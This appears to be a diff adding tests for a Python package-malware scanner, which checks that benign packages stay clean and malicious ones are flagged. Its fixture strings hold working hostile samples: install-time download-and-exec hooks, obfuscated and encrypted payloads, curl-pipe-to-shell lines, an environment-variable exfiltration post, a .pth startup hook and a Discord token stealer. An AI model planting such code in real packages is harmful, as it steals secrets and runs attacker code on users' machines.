@@ -1,0 +1,145 @@
+"""Python package analysis: capability alone stays quiet; capability with intent and reach is flagged."""
+
+from __future__ import annotations
+
+import base64
+import zlib
+
+from tests.packages.helpers import facts_of, sdist, verdict, wheel_bytes
+
+BENIGN_SETUP = '''
+import os, subprocess
+from setuptools import setup, Extension
+
+def git_version():
+    try:
+        return subprocess.check_output(["git", "describe", "--tags"]).decode().strip()
+    except Exception:
+        return "0.0.dev0"
+
+debug = os.environ.get("MYLIB_DEBUG")
+exec(open("mylib/_version.py").read())
+setup(name="mylib", version="1.2.0", packages=["mylib"], ext_modules=[Extension("mylib._c", ["src/c.c"])])
+'''
+
+BENIGN_LIB = '''
+import os, subprocess, requests
+
+API = os.environ.get("MYLIB_API_TOKEN")
+
+def fetch(url):
+    return requests.get(url, headers={"Authorization": API}, timeout=10).json()
+
+def run(cmd):
+    return subprocess.run(cmd, check=True, capture_output=True)
+'''
+
+
+def test_benign_setup_and_library_stay_clean() -> None:
+    v, strong = verdict(sdist("mylib", "1.2.0", {"setup.py": BENIGN_SETUP, "mylib/__init__.py": "from .core import *\n",
+                                                 "mylib/core.py": BENIGN_LIB, "mylib/_version.py": "__version__='1.2.0'\n"}))  # noqa: E501
+    assert v == "clean", strong
+    assert not strong
+
+
+def test_install_time_download_and_exec_is_malicious() -> None:
+    setup = '''
+from setuptools import setup
+from setuptools.command.install import install
+import urllib.request, os
+
+class PostInstall(install):
+    def run(self):
+        payload = urllib.request.urlopen("http://185.62.56.20/x.py").read()
+        exec(payload)
+        install.run(self)
+
+setup(name="reqeusts", version="2.31.0", cmdclass={"install": PostInstall})
+'''
+    v, strong = verdict(sdist("reqeusts", "2.31.0", {"setup.py": setup}))
+    assert v == "malicious"
+    assert "package.download-exec:critical" in strong
+    assert any(s.startswith("package.typosquat") for s in strong)
+    assert any(s.startswith("package.shady-endpoint") for s in strong)
+
+
+def test_exec_of_base64_payload_is_decoded_and_rescanned() -> None:
+    inner = "import os\nos.system('curl http://evil.example/p.sh | sh')\n"
+    blob = base64.b64encode(zlib.compress(inner.encode())).decode()
+    setup = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{blob}')))\nfrom setuptools import setup\nsetup(name='x')\n"  # noqa: E501
+    facts = facts_of(sdist("colorlibx", "1.0", {"setup.py": setup}))
+    decoded = [s for s in facts.signals if s.decoded]
+    assert any(s.kind == "exec.shell-downloader" for s in decoded), [s.kind for s in facts.signals]
+    v, strong = verdict(sdist("colorlibx", "1.0", {"setup.py": setup}))
+    assert v == "malicious"
+    assert "package.decoded-exec:critical" in strong
+    assert "package.hidden-code:critical" in strong
+
+
+def test_fernet_wrapped_payload_with_inline_key_is_decrypted() -> None:
+    from cryptography.fernet import Fernet
+
+    key = Fernet.generate_key()
+    token = Fernet(key).encrypt(b"import requests\nrequests.get('https://pastebin.com/raw/abc123')\n")
+    setup = (
+        "from setuptools import setup\nfrom setuptools.command.install import install\n"
+        "class I(install):\n    def run(self):\n        from fernet import Fernet\n"
+        f"        exec(Fernet({key!r}).decrypt({token!r}))\n        install.run(self)\n"
+        "setup(name='beautifulsoup5', cmdclass={'install': I})\n"
+    )
+    facts = facts_of(sdist("beautifulsoup5", "1.0", {"setup.py": setup}))
+    hidden = [s for s in facts.signals if s.decoded and s.kind == "endpoint.shady"]
+    assert hidden and hidden[0].detail["category"] == "paste"
+    assert verdict(sdist("beautifulsoup5", "1.0", {"setup.py": setup}))[0] == "malicious"
+
+
+def test_env_dump_to_network_is_exfiltration() -> None:
+    code = "import os, json, requests\n\ndef init():\n    data = dict(os.environ)\n" \
+           "    requests.post('https://collector.example/x', data=json.dumps(data))\n\ninit()\n"
+    v, strong = verdict(sdist("internal-billing-lib", "99.0.1", {"internal_billing_lib/__init__.py": code,
+                                                                  "setup.py": "from setuptools import setup\nsetup()\n"}))  # noqa: E501
+    assert v == "malicious"
+    assert "package.exfiltration:critical" in strong
+
+
+def test_char_code_obfuscation_is_folded() -> None:
+    codes = [ord(c) for c in "https://pastebin.com/raw/WNrajaVK"]
+    code = f"import urllib.request\nU = ''.join(map(chr, {codes}))\nexec(urllib.request.urlopen(U).read())\n"
+    facts = facts_of(wheel_bytes({"locutils/__init__.py": code, "locutils-1.0.dist-info/METADATA":
+                                  "Metadata-Version: 2.1\nName: locutils\nVersion: 1.0\nSummary: x\n"}))
+    kinds = {s.kind for s in facts.signals}
+    assert "net.download-exec" in kinds
+    assert "endpoint.shady" in kinds
+
+
+def test_pth_file_with_code_runs_at_startup() -> None:
+    pth = "import os; os.system('curl -s http://203.0.113.9/a | bash')\n"
+    v, strong = verdict(wheel_bytes({"zz_hook.pth": pth, "hooky-1.0.dist-info/METADATA":
+                                     "Metadata-Version: 2.1\nName: hooky\nVersion: 1.0\nSummary: x\n"}))
+    assert v == "malicious"
+    assert "package.install-downloader:critical" in strong
+
+
+def test_discord_token_stealer_shape() -> None:
+    code = '''
+import os, re, requests
+HOOK = "https://discord.com/api/webhooks/1122334455667788/abcdefghijklmnopqrstuvwxyzABCDEFGH_123456"
+def grab():
+    path = os.getenv("APPDATA") + "\\\\discord\\\\Local Storage\\\\leveldb"
+    for f in os.listdir(path):
+        text = open(os.path.join(path, f), errors="ignore").read()
+        for t in re.findall(r"[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}", text):
+            requests.post(HOOK, json={"content": t})
+'''
+    v, strong = verdict(sdist("discord-tools-x", "0.1", {"discord_tools_x/core.py": code,
+                                                         "setup.py": "from setuptools import setup\nsetup()\n"}))
+    assert v == "malicious"
+    assert "package.bot-token-endpoint:critical" in strong
+    assert any(s.startswith("package.stealer") for s in strong)
+
+
+def test_unparsable_python_falls_back_to_text_indicators() -> None:
+    code = "def broken(:\n    os.system('powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=')\n"  # noqa: E501
+    facts = facts_of(sdist("brk", "1.0", {"setup.py": code}))
+    assert any(s.kind == "code.unparsable" for s in facts.signals)
+    assert any(s.kind == "exec.shell-downloader" for s in facts.signals)
